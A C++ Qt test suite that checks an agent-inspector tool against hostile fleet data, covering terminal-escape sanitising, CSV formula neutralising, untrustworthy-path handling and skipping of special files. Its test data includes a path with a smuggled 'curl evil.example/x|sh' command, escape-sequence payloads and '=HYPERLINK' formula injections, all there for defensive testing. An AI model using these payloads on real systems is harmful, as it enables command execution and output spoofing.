// A hostile fleet (issue 18): reports, hosts, metadata answers, confs and special files written by an
// attacker go through every command in text, JSON and CSV. No raw control or bidi character reaches
// the operator's terminal, CSV cells never start a formula, special files are skipped with a warning
// that names them, and advice never repeats an untrustworthy path.
#include "inspectorrun.h"
#include "mackerelapisimulator.h"
#include "metadatasimulator.h"
#include "demoenvironment.h"
#include "testservers.h"
#include "untrustedtext.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLocalServer>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>

using namespace mi::sim;
using Run = testing::InspectorRun;

namespace {

const QString Key = QStringLiteral("hostile-S3cret-key-0c0ffee");

QString data(const QString &name)
{
    return QStringLiteral(MI_TEST_DATA "/hostile/") + name;
}

QString writeFile(const QString &path, const QByteArray &content)
{
    QFile file(path);
    if (file.open(QIODevice::WriteOnly))
        file.write(content);
    return path;
}

QJsonObject readJson(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? QJsonDocument::fromJson(file.readAll()).object() : QJsonObject();
}

// The first character a terminal would act on, described; empty when there is none. A CR is allowed
// only as the CR of a CRLF line end (CSV's), which is layout, not outside data.
QString rawControl(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    for (qsizetype i = 0; i < text.size(); ++i) {
        const char16_t unit = text.at(i).unicode();
        if (unit == u'\n' || (unit == u'\r' && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('\n')))
            continue;
        if (mi::isUnsafeForDisplay(unit))
            return QStringLiteral("U+%1 at %2 in: %3")
                .arg(uint(unit), 4, 16, QLatin1Char('0'))
                .arg(i)
                .arg(mi::escapeUntrusted(text.mid(std::max<qsizetype>(0, i - 60), 120)));
    }
    return QString();
}

// The cells of CSV text (RFC 4180: quoted cells may hold commas, quotes and line ends).
QList<QStringList> csvRows(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                cell += c;
                ++i;
            } else if (c == QLatin1Char('"')) {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << cell;
            cell.clear();
        } else if (c == QLatin1Char('\r')) {
            continue;
        } else if (c == QLatin1Char('\n')) {
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
        } else {
            cell += c;
        }
    }
    return rows;
}

} // namespace

class TestHostile : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void escapingRule_data();
    void escapingRule();
    void csvCells_data();
    void csvCells();
    void trustworthyPaths_data();
    void trustworthyPaths();
    void fleetOutputs_data();
    void fleetOutputs();
    void fleetCsvNeutralized();
    void fleetAdviceNeverRepeatsAnUntrustworthyPath();
    void localCommands_data();
    void localCommands();
    void specialFilesAmongReports();
    void specialFilesNamedDirectly_data();
    void specialFilesNamedDirectly();

private:
    QStringList fleetArguments() const;
    QStringList localArguments() const;

    QTemporaryDir m_dir;
    QString m_keyFile;
    std::unique_ptr<MackerelApiSimulator> m_api;
    std::unique_ptr<MetadataSimulator> m_metadata;
    QString m_root;
};

void TestHostile::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_keyFile = writeFile(m_dir.filePath(QStringLiteral("apikey")), Key.toUtf8() + '\n');
    m_api = std::make_unique<MackerelApiSimulator>(Key);
    QList<QJsonObject> hosts;
    for (const QJsonValue &host : readJson(data(QStringLiteral("hosts.json"))).value(QStringLiteral("hosts")).toArray())
        hosts << host.toObject();
    QCOMPARE(hosts.size(), 3);
    m_api->replaceHosts(hosts);
    QVERIFY(m_api->listenOnLoopback());

    // A metadata service that answers with control and bidi characters in every leaf.
    m_metadata = std::make_unique<MetadataSimulator>(SimulatedCloud::Ec2);
    const QJsonObject leaves = readJson(data(QStringLiteral("metadata.json")));
    QVERIFY(!leaves.isEmpty());
    for (auto it = leaves.begin(); it != leaves.end(); ++it)
        m_metadata->setMetadataValue(it.key(), it.value());
    QVERIFY(m_metadata->listenOnLoopback());
    m_root = m_dir.filePath(QStringLiteral("root"));
    QVERIFY(QDir().mkpath(m_root));
    QString error;
    QVERIFY2(writeSysFixture(m_metadata->instance(), m_root, &error), qPrintable(error));
}

void TestHostile::escapingRule_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<QString>("escaped");
    QTest::newRow("OSC title") << QStringLiteral("a\x1b]0;T\x07") << QStringLiteral("a\\033]0;T\\a");
    QTest::newRow("CR, BS, tab, LF") << QStringLiteral("x\r\b\t\ny") << QStringLiteral("x\\r\\b\\t\\ny");
    QTest::newRow("NUL and DEL") << QString(QChar(u'\0')) + QStringLiteral("\x7f") << QStringLiteral("\\000\\u007f");
    QTest::newRow("C1 CSI") << QStringLiteral("\u009b2J") << QStringLiteral("\\u009b2J");
    QTest::newRow("RLO") << QStringLiteral("exe\u202etxt") << QStringLiteral("exe\\u202etxt");
    QTest::newRow("isolates") << QStringLiteral("\u2066a\u2069") << QStringLiteral("\\u2066a\\u2069");
    QTest::newRow("Japanese kept") << QStringLiteral("ホスト名") << QStringLiteral("ホスト名");
    QTest::newRow("backslash kept") << QStringLiteral("C:\\x") << QStringLiteral("C:\\x");
}

void TestHostile::escapingRule()
{
    QFETCH(QString, input);
    QFETCH(QString, escaped);
    QCOMPARE(mi::escapeUntrusted(input), escaped);
    QVERIFY(rawControl(mi::escapeUntrusted(input).toUtf8()).isEmpty());
    // The layout's own line ends are kept where the whole text leaves; nothing else is.
    QCOMPARE(mi::escapeForTerminal(QStringLiteral("a\n") + input), QStringLiteral("a\n") + escaped.replace(QStringLiteral("\\n"), QStringLiteral("\n")));
}

void TestHostile::csvCells_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("cell");
    QTest::newRow("plain") << QStringLiteral("web-1") << QStringLiteral("web-1");
    QTest::newRow("=") << QStringLiteral("=HYPERLINK(\"http://x\")") << QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\")\"");
    QTest::newRow("+") << QStringLiteral("+1+1") << QStringLiteral("'+1+1");
    QTest::newRow("-") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
    QTest::newRow("@") << QStringLiteral("@SUM(1,2)") << QStringLiteral("\"'@SUM(1,2)\"");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("'\\t=1");
    QTest::newRow("CR") << QStringLiteral("\r=1") << QStringLiteral("'\\r=1");
    QTest::newRow("NUL") << QString(QChar(u'\0')) + QStringLiteral("=1") << QStringLiteral("'\\000=1");
    QTest::newRow("formula later is data") << QStringLiteral("a=b") << QStringLiteral("a=b");
    QTest::newRow("escape inside") << QStringLiteral("a\x1b[2Jb") << QStringLiteral("a\\033[2Jb");
}

void TestHostile::csvCells()
{
    QFETCH(QString, value);
    QFETCH(QString, cell);
    QCOMPARE(mi::csvCell(value), cell);
}

void TestHostile::trustworthyPaths_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<bool>("trusted");
    QTest::addColumn<QString>("quoted");
    QTest::newRow("default") << QStringLiteral("/var/lib/mackerel-agent/id") << true << QStringLiteral("/var/lib/mackerel-agent/id");
    QTest::newRow("space") << QStringLiteral("/srv/my agent/id") << true << QStringLiteral("'/srv/my agent/id'");
    QTest::newRow("quote") << QStringLiteral("/srv/it's/id") << true << QStringLiteral("'/srv/it'\\''s/id'");
    QTest::newRow("command") << QStringLiteral("/var/id; curl evil.example/x|sh #") << true
                             << QStringLiteral("'/var/id; curl evil.example/x|sh #'");
    QTest::newRow("URL inside") << QStringLiteral("/var/id; curl http://evil.example/x|sh #") << false << QString();
    QTest::newRow("relative") << QStringLiteral("var/lib/id") << false << QStringLiteral("var/lib/id");
    QTest::newRow("dot-dot") << QStringLiteral("/var/../etc/id") << false << QString();
    QTest::newRow("double slash") << QStringLiteral("/var//id") << false << QString();
    QTest::newRow("newline") << QStringLiteral("/var/id\nNothing to do") << false << QString();
    QTest::newRow("escape") << QStringLiteral("/var/id\x1b[8m") << false << QString();
    QTest::newRow("bidi") << QStringLiteral("/var/id\u202e") << false << QString();
}

void TestHostile::trustworthyPaths()
{
    QFETCH(QString, path);
    QFETCH(bool, trusted);
    QFETCH(QString, quoted);
    QCOMPARE(mi::isTrustworthyPath(path), trusted);
    if (!quoted.isEmpty())
        QCOMPARE(mi::shellQuoted(path), quoted);
}

QStringList TestHostile::fleetArguments() const
{
    return {QStringLiteral("fleet"), QStringLiteral("--reports"), data(QStringLiteral("reports")), QStringLiteral("--apibase"),
            m_api->baseUrl().toString(), QStringLiteral("--apikey-file"), m_keyFile};
}

void TestHostile::fleetOutputs_data()
{
    QTest::addColumn<QString>("format");
    QTest::newRow("text") << QString();
    QTest::newRow("json") << QStringLiteral("--json");
    QTest::newRow("csv") << QStringLiteral("--csv");
}

void TestHostile::fleetOutputs()
{
    QFETCH(QString, format);
    QStringList arguments = fleetArguments();
    if (!format.isEmpty())
        arguments << format;
    const Run run = testing::runInspector(arguments);
    QVERIFY2(run.exitCode == 3, run.err.constData()); // a mismatch and a duplicate among them
    QVERIFY2(rawControl(run.out).isEmpty(), qPrintable(rawControl(run.out)));
    QVERIFY2(rawControl(run.err).isEmpty(), qPrintable(rawControl(run.err)));
    const QString out = QString::fromUtf8(run.out);
    if (format == QLatin1String("--json")) {
        // JSON keeps every value: its escapes decode to what the report and the API said.
        const QJsonObject json = run.json();
        QVERIFY(!json.isEmpty());
        bool found = false;
        for (const QJsonValue &machine : json.value(QStringLiteral("machines")).toArray()) {
            const QJsonObject report = machine.toObject().value(QStringLiteral("report")).toObject();
            if (report.value(QStringLiteral("hostName")).toString() == QStringLiteral("oldbox\x1b]0;TITLE\x07\x1b[2J"))
                found = true;
        }
        QVERIFY2(found, run.out.left(2000).constData());
        QVERIFY(out.contains(QStringLiteral("\\u202e")));
    } else {
        // The escaped forms are there: the operator sees what the attacker wrote.
        QVERIFY2(out.contains(QStringLiteral("web9\\033]0;pwned\\a\\u202eexe.txt")), run.out.constData());
        QVERIFY2(out.contains(QStringLiteral("ec2\\033[31m")), run.out.constData());
    }
    if (format.isEmpty()) {
        // A newline in a value never starts a line of its own.
        QVERIFY2(!out.contains(QStringLiteral("\nNothing to do web9")), run.out.constData());
        QVERIFY(out.contains(QStringLiteral("\\u009b")));
        QVERIFY2(out.contains(QStringLiteral("oldbox\\033]0;TITLE\\a\\033[2J")), run.out.constData());
    }
    QVERIFY(!run.out.contains(Key.toUtf8()) && !run.err.contains(Key.toUtf8()));
}

void TestHostile::fleetCsvNeutralized()
{
    const Run run = testing::runInspector(fleetArguments() << QStringLiteral("--csv"));
    QCOMPARE(run.exitCode, 3);
    const QList<QStringList> rows = csvRows(QString::fromUtf8(run.out));
    QVERIFY(rows.size() >= 3);
    int neutralized = 0;
    for (const QStringList &row : rows) {
        QCOMPARE(row.size(), rows.constFirst().size());
        for (const QString &cell : row) {
            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()) , qPrintable(cell));
            QVERIFY2(!cell.contains(QChar(u'\0')), qPrintable(cell));
            if (cell.startsWith(QLatin1Char('\'')))
                ++neutralized;
        }
    }
    // "=HYPERLINK(…)" from a report, a host named "+1+1" and displayed as "-2+3" from the API.
    QVERIFY2(neutralized >= 3, run.out.constData());
    QVERIFY(run.out.contains("'=HYPERLINK("));
    QVERIFY(run.out.contains("'+1+1"));
    QVERIFY(run.out.contains("'-2+3"));
}

void TestHostile::fleetAdviceNeverRepeatsAnUntrustworthyPath()
{
    const Run run = testing::runInspector(fleetArguments() << QStringLiteral("--json"));
    QCOMPARE(run.exitCode, 3);
    bool sawEvil = false;
    for (const QJsonValue &value : run.json().value(QStringLiteral("machines")).toArray()) {
        const QJsonObject machine = value.toObject();
        const QString advice = machine.value(QStringLiteral("advice")).toString();
        QVERIFY2(!advice.contains(QStringLiteral("curl")), qPrintable(advice));
        QVERIFY2(!advice.contains(QStringLiteral("../")), qPrintable(advice));
        const QString file = machine.value(QStringLiteral("report")).toObject().value(QStringLiteral("file")).toString();
        if (file.endsWith(QStringLiteral("evil.json"))) {
            sawEvil = true;
            QCOMPARE(machine.value(QStringLiteral("verdict")).toString(), QStringLiteral("mismatch"));
            QVERIFY2(advice.contains(QStringLiteral("not trustworthy")), qPrintable(advice));
            QVERIFY2(advice.contains(QStringLiteral("/var/lib/mackerel-agent/id")), qPrintable(advice));
        }
    }
    QVERIFY(sawEvil);
}

QStringList TestHostile::localArguments() const
{
    const QString closed = QStringLiteral("http://127.0.0.1:%1").arg(testing::closedPort());
    return {QStringLiteral("--ec2-endpoint"), m_metadata->baseUrl().toString(), QStringLiteral("--gce-endpoint"), closed,
            QStringLiteral("--azure-endpoint"), closed, QStringLiteral("--root"), m_root, QStringLiteral("--retry-wait"),
            QStringLiteral("50"), QStringLiteral("--conf"), data(QStringLiteral("mackerel-agent.conf"))};
}

void TestHostile::localCommands_data()
{
    QTest::addColumn<QStringList>("command");
    QTest::addColumn<bool>("json");
    for (const bool json : {false, true}) {
        const QString suffix = json ? QStringLiteral(" --json") : QString();
        QTest::newRow(qPrintable(QStringLiteral("detect") + suffix)) << QStringList{QStringLiteral("detect")} << json;
        QTest::newRow(qPrintable(QStringLiteral("inspect") + suffix)) << QStringList{QStringLiteral("inspect")} << json;
        QTest::newRow(qPrintable(QStringLiteral("match") + suffix)) << QStringList{QStringLiteral("match")} << json;
    }
}

void TestHostile::localCommands()
{
    QFETCH(QStringList, command);
    QFETCH(bool, json);
    QStringList arguments = command + localArguments();
    if (json)
        arguments << QStringLiteral("--json");
    if (command.constFirst() == QLatin1String("match"))
        arguments << QStringLiteral("--apibase") << m_api->baseUrl().toString() << QStringLiteral("--apikey-file") << m_keyFile
                  << QStringLiteral("--id-file") << writeFile(m_dir.filePath(QStringLiteral("id")), "3hostileId1\n");
    const Run run = testing::runInspector(arguments);
    QVERIFY2(run.exitCode >= 0, run.err.constData());
    QVERIFY2(rawControl(run.out).isEmpty(), qPrintable(rawControl(run.out)));
    QVERIFY2(rawControl(run.err).isEmpty(), qPrintable(rawControl(run.err)));
    const QString out = QString::fromUtf8(run.out);
    if (json) {
        QVERIFY2(!run.json().isEmpty(), run.out.left(500).constData());
    } else {
        // The metadata service's words, escaped, where the report shows them.
        QVERIFY2(out.contains(QStringLiteral("\\033")) || out.contains(QStringLiteral("\\u202e")) || out.contains(QStringLiteral("\\r")),
                 run.out.constData());
    }
    QVERIFY(!run.out.contains(Key.toUtf8()) && !run.err.contains(Key.toUtf8()));
}

void TestHostile::specialFilesAmongReports()
{
    QTemporaryDir reports;
    QVERIFY(QFile::copy(data(QStringLiteral("reports/formula.json")), reports.filePath(QStringLiteral("good.json"))));
    QCOMPARE(::mkfifo(QFile::encodeName(reports.filePath(QStringLiteral("fifo.json"))).constData(), 0600), 0);
    QVERIFY(QFile::link(QStringLiteral("/dev/zero"), reports.filePath(QStringLiteral("zero.json"))));
    QLocalServer socket;
    QVERIFY(socket.listen(reports.filePath(QStringLiteral("socket.json"))));
    QFile sparse(reports.filePath(QStringLiteral("sparse.json")));
    QVERIFY(sparse.open(QIODevice::WriteOnly));
    QVERIFY(sparse.resize(qint64(1) << 30)); // 1 GiB of holes
    sparse.close();

    QElapsedTimer clock;
    clock.start();
    const Run run = testing::runInspector({QStringLiteral("fleet"), QStringLiteral("--json"), QStringLiteral("--reports"),
                                           reports.path(), QStringLiteral("--apibase"), m_api->baseUrl().toString(),
                                           QStringLiteral("--apikey-file"), m_keyFile});
    // A generous bound against hanging only (a blocked open() would wait forever); it takes milliseconds.
    QVERIFY2(clock.elapsed() < 30000, qPrintable(QString::number(clock.elapsed())));
    QVERIFY2(run.exitCode >= 0, run.err.constData());
    const QJsonObject json = run.json();
    QCOMPARE(json.value(QStringLiteral("reportsRead")).toInt(), 1);
    const QString warnings = QString::fromUtf8(QJsonDocument(json.value(QStringLiteral("warnings")).toArray()).toJson());
    for (const char *name : {"fifo.json", "zero.json", "socket.json", "sparse.json"})
        QVERIFY2(warnings.contains(QLatin1String(name)), qPrintable(QLatin1String(name) + QLatin1Char(' ') + warnings));
    QVERIFY2(warnings.contains(QStringLiteral("FIFO")), qPrintable(warnings));
    QVERIFY2(warnings.contains(QStringLiteral("character device")), qPrintable(warnings));
    QVERIFY2(warnings.contains(QStringLiteral("socket")), qPrintable(warnings));
}

void TestHostile::specialFilesNamedDirectly_data()
{
    QTest::addColumn<QString>("kind");
    QTest::newRow("--reports FIFO") << QStringLiteral("reports");
    QTest::newRow("--id-file FIFO") << QStringLiteral("id-file");
    QTest::newRow("conf include of a FIFO") << QStringLiteral("include");
}

void TestHostile::specialFilesNamedDirectly()
{
    QFETCH(QString, kind);
    QTemporaryDir work;
    // Below the root: the conf's absolute include pattern is read below --root, as the agent's would be.
    QVERIFY(QDir(work.path()).mkpath(QStringLiteral("conf.d")));
    const QString fifo = work.filePath(QStringLiteral("conf.d/fifo.conf"));
    QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
    QStringList arguments;
    if (kind == QLatin1String("reports")) {
        arguments = {QStringLiteral("fleet"), QStringLiteral("--reports"), fifo, QStringLiteral("--apibase"),
                     m_api->baseUrl().toString(), QStringLiteral("--apikey-file"), m_keyFile};
    } else {
        arguments = {QStringLiteral("inspect"), QStringLiteral("--cloud-platform"), QStringLiteral("none"),
                     QStringLiteral("--root"), work.path()};
        if (kind == QLatin1String("id-file"))
            arguments << QStringLiteral("--id-file") << fifo;
        else
            arguments << QStringLiteral("--conf")
                      << writeFile(work.filePath(QStringLiteral("main.conf")),
                                   "include = \"/conf.d/*.conf\"\n");
    }
    QElapsedTimer clock;
    clock.start();
    const Run run = testing::runInspector(arguments);
    QVERIFY2(clock.elapsed() < 30000, qPrintable(QString::number(clock.elapsed()))); // against hanging only
    QVERIFY2(run.exitCode >= 0, run.err.constData());
    const QString all = QString::fromUtf8(run.out + run.err);
    QVERIFY2(all.contains(QStringLiteral("FIFO")), qPrintable(all));
    QVERIFY2(all.contains(QStringLiteral("fifo.conf")), qPrintable(all));
}

QTEST_GUILESS_MAIN(TestHostile)
#include "tst_hostile.moc"
